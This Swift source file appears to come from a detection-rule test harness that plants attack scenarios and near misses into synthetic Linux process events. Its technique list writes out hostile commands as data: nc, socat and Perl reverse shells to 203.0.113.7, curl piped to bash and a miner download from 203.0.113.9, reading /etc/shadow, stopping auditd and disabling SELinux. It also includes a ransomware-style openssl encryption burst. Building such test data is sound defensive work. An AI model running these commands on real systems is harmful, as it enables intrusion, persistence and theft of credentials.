/// Activity planted in a workload among the everyday events: attacks that rules must find, and near
/// misses that they must not.
///
/// Every scenario starts with a fresh SSH login shell on a random host and runs its commands from
/// that shell, so a sequence's join key (host, user, parent process) is its own.
public enum PlantedScenario: String, CaseIterable, Sendable, Comparable {
    /// `openssl s_client -connect host:port`: one alert of "Openssl Client or Server Activity".
    case opensslClient = "openssl s_client -connect"
    /// `openssl s_server -port`: one alert of "Openssl Client or Server Activity".
    case opensslServer = "openssl s_server -port"
    /// `openssl s_client -showcerts`: a near miss of the same rule.
    case opensslShowcerts = "openssl s_client -showcerts (near miss)"
    /// 10 to 12 `openssl enc … -k` within 2.4 s from one shell: *n* − 9 detections of "Suspicious
    /// Data Encryption via OpenSSL Utility" (each window of ten consecutive encryptions).
    case encryptionBurst = "openssl enc burst (10-12 files)"
    /// Ten `openssl enc -a` (base64): a near miss of the sequence rule.
    case encodingBurst = "openssl enc -a burst (near miss)"
    /// Ten encryptions one second apart, slower than `maxspan=5s`: a near miss.
    case slowEncryption = "slow openssl enc (near miss)"
    /// One command of a well-known Linux attack technique (reverse shells, defence evasion,
    /// discovery) that Elastic's Linux rules look for.
    case attackTechnique = "Linux attack technique"

    public static func < (lhs: PlantedScenario, rhs: PlantedScenario) -> Bool {
        allCases.firstIndex(of: lhs)! < allCases.firstIndex(of: rhs)!
    }

    /// How often the scenario is chosen, relative to the others.
    var weight: Int {
        switch self {
        case .opensslClient, .opensslServer, .opensslShowcerts: 3
        case .encryptionBurst: 2
        case .encodingBurst, .slowEncryption: 1
        case .attackTechnique: 12
        }
    }

    /// The founding rule this scenario trips, by name, or `nil` for near misses and techniques.
    public var foundingRule: String? {
        switch self {
        case .opensslClient, .opensslServer: "Openssl Client or Server Activity"
        case .encryptionBurst: "Suspicious Data Encryption via OpenSSL Utility"
        default: nil
        }
    }

    /// Commands of known Linux attack techniques.
    static let techniques: [CommandTemplate] = [
        CommandTemplate("/usr/bin/ldapsearch", ["-x", "-H", "ldap://dc01.corp.example.com", "-b", "dc=corp,dc=example,dc=com"]),
        CommandTemplate("/usr/bin/kubectl", ["get", "configmaps", "-A"]),
        CommandTemplate("/usr/bin/python3", ["-c", #"import pty; pty.spawn("/bin/bash")"#]),
        CommandTemplate("/usr/bin/nc", ["-e", "/bin/sh", "203.0.113.7", "4444"]),
        CommandTemplate("/usr/bin/base64", ["-d", "/tmp/.cache/p.b64"]),
        CommandTemplate("/usr/sbin/useradd", ["-m", "-s", "/bin/bash", "support"]),
        CommandTemplate("/usr/sbin/iptables", ["-F"]),
        CommandTemplate("/usr/sbin/setenforce", ["0"]),
        CommandTemplate("/usr/sbin/insmod", ["/tmp/.x/kmod.ko"]),
        CommandTemplate("/usr/bin/bash", ["-c", "curl -sL http://203.0.113.9/x.sh | bash"]),
        CommandTemplate("/usr/bin/cat", ["/etc/shadow"]),
        CommandTemplate("/usr/bin/systemctl", ["stop", "auditd"]),
        CommandTemplate("/usr/bin/find", ["/", "-perm", "-4000", "-type", "f"]),
        CommandTemplate("/usr/bin/chattr", ["+i", "/etc/passwd"]),
        CommandTemplate("/usr/bin/wget", ["http://203.0.113.9/miner", "-O", "/tmp/.x/miner"]),
        CommandTemplate("/usr/bin/chmod", ["+x", "/dev/shm/.x"]),
        CommandTemplate("/usr/bin/crontab", ["/tmp/.c"]),
        CommandTemplate("/usr/bin/touch", ["-r", "/bin/ls", "/tmp/.x"]),
        CommandTemplate("/usr/bin/socat", ["TCP:203.0.113.7:4444", "EXEC:/bin/bash"]),
        CommandTemplate("/usr/bin/perl", ["-e", #"use Socket;$i="203.0.113.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"))"#]),
        CommandTemplate("/usr/bin/xxd", ["-s", "100", "/tmp/x"]),
        CommandTemplate("/usr/bin/unshare", ["-r", "/bin/bash"]),
    ]

    /// The scenario's commands as (seconds after the login, command) pairs.
    func commands(random: inout SeededRandom) -> [(offset: Double, command: CommandTemplate)] {
        func encrypt(_ index: Int, base64: Bool) -> CommandTemplate {
            let file = "/srv/data/part\(index)-%H.db"
            var args = ["enc", "-aes-256-cbc", "-salt"]
            if base64 { args.append("-a") }
            args += ["-in", file, "-out", file + ".enc", "-k", "R4ns0m!"]
            return CommandTemplate("/usr/bin/openssl", args, cwd: "/srv/data")
        }
        switch self {
        case .opensslClient:
            return [(1, CommandTemplate("/usr/bin/openssl", ["s_client", "-quiet", "-connect", "203.0.113.%N:443"]))]
        case .opensslServer:
            return [(1, CommandTemplate("/usr/bin/openssl", ["s_server", "-quiet", "-key", "/tmp/k.pem", "-cert", "/tmp/c.pem", "-port", "8443"]))]
        case .opensslShowcerts:
            return [(1, CommandTemplate("/usr/bin/openssl", ["s_client", "-connect", "intranet.example.com:443", "-showcerts"]))]
        case .encryptionBurst:
            return (0 ..< random.integer(in: 10 ... 12)).map { (1 + Double($0) * 0.2, encrypt($0, base64: false)) }
        case .encodingBurst:
            return (0 ..< 10).map { (1 + Double($0) * 0.3, encrypt($0, base64: true)) }
        case .slowEncryption:
            return (0 ..< 10).map { (1 + Double($0) * 1.0, encrypt($0, base64: false)) }
        case .attackTechnique:
            return [(1, random.element(of: Self.techniques))]
        }
    }

    /// Detections of the founding rule this scenario should raise, given its command count.
    func expectedDetections(commandCount: Int) -> Int {
        switch self {
        case .opensslClient, .opensslServer: 1
        case .encryptionBurst: commandCount - 9
        default: 0
        }
    }
}
